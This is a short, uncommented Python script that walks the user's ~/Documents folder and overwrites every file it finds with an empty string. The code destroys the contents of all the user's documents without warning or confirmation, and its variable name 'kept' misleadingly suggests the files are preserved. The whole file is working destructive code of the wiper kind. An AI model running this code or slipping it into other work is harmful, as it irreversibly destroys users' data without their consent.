import os

for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        with open(os.path.join(folder, name), "w") as kept:
            kept.write("")
